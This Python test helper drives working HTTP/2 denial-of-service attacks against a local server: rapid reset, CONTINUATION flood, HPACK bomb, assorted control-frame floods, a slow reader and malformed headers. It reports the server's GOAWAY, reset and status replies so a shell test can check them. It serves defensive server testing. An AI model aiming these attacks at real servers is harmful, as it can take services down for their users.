"""HTTP/2 attacks against a server, for tests/e2e/http2_attacks_test.sh.

Usage: /usr/bin/python3 h2_attack.py ATTACK PORT HOST [PATH]

Speaks HTTP/2 with prior knowledge (h2c) through Debian's python3-h2 stack: hyperframe builds
the frames exactly as the attack needs them (h2's state machine would refuse most of them), hpack
encodes header blocks, and h2 itself is the well-behaved client of the header-validation cases.
Prints what the server answered, one fact a line, for the shell test to check:
  goaway CODE        the error code of the server's GOAWAY (a name such as ENHANCE_YOUR_CALM)
  closed yes|no      whether the server closed the connection within the time allowed
  rst ID CODE        a RST_STREAM the server sent
  status ID CODE     a response's :status
  settings NAME=V    a setting the server announced
"""

import socket
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.settings
from h2.errors import ErrorCodes
from hpack import Decoder, Encoder
from hyperframe.frame import (ContinuationFrame, DataFrame, Frame, GoAwayFrame, HeadersFrame,
                              PingFrame, PriorityFrame, RstStreamFrame, SettingsFrame,
                              WindowUpdateFrame)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def code_name(code):
    try:
        return ErrorCodes(code).name
    except ValueError:
        return str(code)


class Raw:
    """A socket speaking frames; reads every frame the server sends, and remembers the facts."""

    def __init__(self, port, settings=None):
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=10)
        self.buffer = b""
        self.goaway = None
        self.closed = False
        self.facts = []
        self.encoder = Encoder()
        self.send(PREFACE + SettingsFrame(0, settings or {}).serialize())

    def send(self, data):
        try:
            self.sock.sendall(data)
            return True
        except OSError:  # the server closed on us: that is what some attacks expect
            return False

    def headers_block(self, host, path, method="GET", extra=()):
        fields = [(":method", method), (":scheme", "http"), (":authority", host),
                  (":path", path)] + list(extra)
        return self.encoder.encode(fields)

    def request(self, stream_id, host, path, end_stream=True):
        flags = ["END_HEADERS"] + (["END_STREAM"] if end_stream else [])
        return HeadersFrame(stream_id, self.headers_block(host, path), flags=flags).serialize()

    def read(self, seconds, until=None):
        """Reads frames for up to `seconds`, or until the connection closes or until(frame)."""
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline and not self.closed:
            self.sock.settimeout(max(0.01, deadline - time.monotonic()))
            try:
                chunk = self.sock.recv(65536)
            except socket.timeout:
                break
            except OSError:
                chunk = b""
            if not chunk:
                self.closed = True
                break
            self.buffer += chunk
            while len(self.buffer) >= 9:
                frame, length = Frame.parse_frame_header(memoryview(self.buffer[:9]))
                if len(self.buffer) < 9 + length:
                    break
                frame.parse_body(memoryview(self.buffer[9:9 + length]))
                self.buffer = self.buffer[9 + length:]
                self.on_frame(frame)
                if until is not None and until(frame):
                    return frame
        return None

    def on_frame(self, frame):
        if isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
            for key, value in frame.settings.items():
                try:
                    name = h2.settings.SettingCodes(key).name
                except ValueError:
                    name = str(key)
                self.facts.append(f"settings {name}={value}")
            self.send(SettingsFrame(0, flags=["ACK"]).serialize())
        elif isinstance(frame, GoAwayFrame):
            self.goaway = code_name(frame.error_code)
        elif isinstance(frame, RstStreamFrame):
            self.facts.append(f"rst {frame.stream_id} {code_name(frame.error_code)}")
        elif isinstance(frame, PingFrame) and "ACK" not in frame.flags:
            self.send(PingFrame(0, frame.opaque_data, flags=["ACK"]).serialize())

    def report(self, seconds=5):
        self.read(seconds)
        for fact in self.facts:
            print(fact)
        print(f"goaway {self.goaway}")
        print(f"closed {'yes' if self.closed else 'no'}")


def burst(raw, frames, batch=200):
    """Sends the frames in batches, reading the server's answers between them."""
    for i in range(0, len(frames), batch):
        if not raw.send(b"".join(frames[i:i + batch])):
            return
        raw.read(0.01)


def rapid_reset(port, host, path):
    raw = Raw(port)
    frames = []
    for i in range(2000):
        stream_id = 1 + 2 * i
        frames.append(raw.request(stream_id, host, path))
        frames.append(RstStreamFrame(stream_id, error_code=ErrorCodes.CANCEL).serialize())
    burst(raw, frames)
    raw.report()


def continuation_flood(port, host, path):
    raw = Raw(port)
    raw.read(0.2)
    block = raw.headers_block(host, path)
    frames = [HeadersFrame(1, block).serialize()]  # no END_HEADERS: the block goes on
    filler = Encoder().encode([("x-filler", "a" * 100)])
    frames += [ContinuationFrame(1, filler).serialize() for _ in range(1000)]
    burst(raw, frames)
    raw.report()


def hpack_bomb(port, host, path):
    raw = Raw(port)
    raw.read(0.2)
    # One 4000-byte field enters the dynamic table (index 62), then ~16000 one-byte references
    # to it: 16 KiB on the wire, 64 MB decoded.
    encoder = raw.encoder
    block = encoder.encode([(":method", "GET"), (":scheme", "http"), (":authority", host),
                            (":path", path), ("x-bomb", "b" * 4000)])
    block += bytes([0x80 | 62]) * (16000 - len(block))
    raw.send(HeadersFrame(1, block, flags=["END_HEADERS", "END_STREAM"]).serialize())
    raw.report()


def big_headers(port, host, path):
    """A header list over SETTINGS_MAX_HEADER_LIST_SIZE (64 KiB) but no bomb: 431, not GOAWAY.
    Clients built on nghttp2 (curl, nghttp) refuse to send it, hence the raw frames."""
    raw = Raw(port)
    raw.read(0.2)
    block = raw.headers_block(host, path, extra=[("x-big1", "a" * 40000), ("x-big2", "b" * 40000)])
    pieces = [block[i:i + 16384] for i in range(0, len(block), 16384)]
    frames = []
    for i, piece in enumerate(pieces):
        flags = ["END_HEADERS"] if i == len(pieces) - 1 else []
        if i == 0:
            frames.append(HeadersFrame(1, piece, flags=flags + ["END_STREAM"]).serialize())
        else:
            frames.append(ContinuationFrame(1, piece, flags=flags).serialize())
    raw.send(b"".join(frames))
    answer = raw.read(5, until=lambda f: isinstance(f, HeadersFrame))
    if answer is not None:
        status = dict(Decoder().decode(answer.data)).get(":status")
        print(f"status {answer.stream_id} {status}")
    raw.report(1)


def control_flood(make_frame, count):
    def attack(port, host, path):
        raw = Raw(port)
        raw.read(0.2)
        burst(raw, [make_frame(i) for i in range(count)])
        raw.report()
    return attack


def empty_data_flood(port, host, path):
    raw = Raw(port)
    raw.read(0.2)
    frames = [HeadersFrame(1, raw.headers_block(host, path, "POST"),
                           flags=["END_HEADERS"]).serialize()]
    frames += [DataFrame(1, b"").serialize() for _ in range(1000)]
    burst(raw, frames)
    raw.report()


def too_many_streams(port, host, path):
    raw = Raw(port)
    # The server's SETTINGS, and our ACK of them (Raw.on_frame), must come first: before its
    # SETTINGS are acknowledged a server may only refuse streams.
    raw.read(1, until=lambda f: isinstance(f, SettingsFrame) and "ACK" in f.flags)
    limit = None
    for fact in raw.facts:
        if fact.startswith("settings MAX_CONCURRENT_STREAMS="):
            limit = int(fact.split("=")[1])
    frames = [raw.request(1 + 2 * i, host, path) for i in range(limit + 1)]
    raw.send(b"".join(frames))
    raw.report()


def slow_reader(port, host, path):
    # A window of 0 for every stream: the response body can never be sent.
    raw = Raw(port, {SettingsFrame.INITIAL_WINDOW_SIZE: 0})
    raw.send(raw.request(1, host, path))
    start = time.monotonic()
    raw.read(30, until=lambda f: isinstance(f, RstStreamFrame))
    print(f"reset_after {time.monotonic() - start:.1f}")
    raw.read(30, until=lambda f: isinstance(f, GoAwayFrame))
    print(f"goaway_after {time.monotonic() - start:.1f}")
    raw.report()


def bad_headers(port, host, path):
    """Malformed requests, each on its own stream of one connection, then a good one."""
    config = h2.config.H2Configuration(client_side=True, validate_outbound_headers=False,
                                       normalize_outbound_headers=False,
                                       validate_inbound_headers=False)
    conn = h2.connection.H2Connection(config)
    conn.initiate_connection()
    sock = socket.create_connection(("127.0.0.1", port), timeout=10)
    sock.sendall(conn.data_to_send())
    base = [(":method", "GET"), (":scheme", "http"), (":authority", host), (":path", path)]
    cases = {
        "connection-header": base + [("connection", "keep-alive")],
        "transfer-encoding": base + [("transfer-encoding", "chunked")],
        "upgrade": base + [("upgrade", "websocket")],
        "te-gzip": base + [("te", "gzip")],
        "no-path": base[:3],
        "no-method": base[1:],
        "duplicate-path": base + [(":path", "/other")],
        "unknown-pseudo": base + [(":protocol", "x")],
        "pseudo-after-regular": base[:3] + [("accept", "*/*"), (":path", path)],
        "uppercase-name": base + [("X-Upper", "1")],
        "nul-in-value": base + [("x-bad", "a\x00b")],
        "space-in-path": [base[0], base[1], base[2], (":path", "/a b")],
        "host-disagrees": base + [("host", "other.test")],
        "host-agrees": [base[0], base[1], (":authority", host.upper()), base[3],
                        ("host", host + ":80")],
        "good": base,
    }
    # One at a time: each stream is answered (or reset) before the next one opens, so the
    # concurrency limit never refuses one.
    for name, fields in cases.items():
        stream_id = conn.get_next_available_stream_id()
        conn.send_headers(stream_id, fields, end_stream=True)
        sock.sendall(conn.data_to_send())
        answered = False
        deadline = time.monotonic() + 5
        while not answered and time.monotonic() < deadline:
            sock.settimeout(max(0.01, deadline - time.monotonic()))
            try:
                data = sock.recv(65536)
            except socket.timeout:
                break
            if not data:
                print("closed yes")
                return
            for event in conn.receive_data(data):
                if isinstance(event, h2.events.ResponseReceived) and event.stream_id == stream_id:
                    status = dict(event.headers)[b":status"].decode()
                    print(f"{name} status {status}")
                    answered = True
                elif isinstance(event, h2.events.StreamReset) and event.stream_id == stream_id:
                    print(f"{name} rst {code_name(event.error_code)}")
                    answered = True
                elif isinstance(event, h2.events.ConnectionTerminated):
                    print(f"goaway {code_name(event.error_code)}")
            sock.sendall(conn.data_to_send())
        if not answered:
            print(f"{name} unanswered")


ATTACKS = {
    "rapid-reset": rapid_reset,
    "continuation-flood": continuation_flood,
    "hpack-bomb": hpack_bomb,
    "big-headers": big_headers,
    "settings-flood": control_flood(lambda i: SettingsFrame(0, {}).serialize(), 1000),
    "ping-flood": control_flood(lambda i: PingFrame(0, i.to_bytes(8, "big")).serialize(), 1000),
    "priority-flood": control_flood(
        lambda i: PriorityFrame(1 + 2 * (i % 100), depends_on=0, stream_weight=16).serialize(),
        3000),
    "window-update-flood": control_flood(lambda i: WindowUpdateFrame(0, 1).serialize(), 3000),
    "empty-data-flood": empty_data_flood,
    "too-many-streams": too_many_streams,
    "slow-reader": slow_reader,
    "bad-headers": bad_headers,
}

if __name__ == "__main__":
    attack, port, host = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    path = sys.argv[4] if len(sys.argv) > 4 else "/"
    ATTACKS[attack](port, host, path)
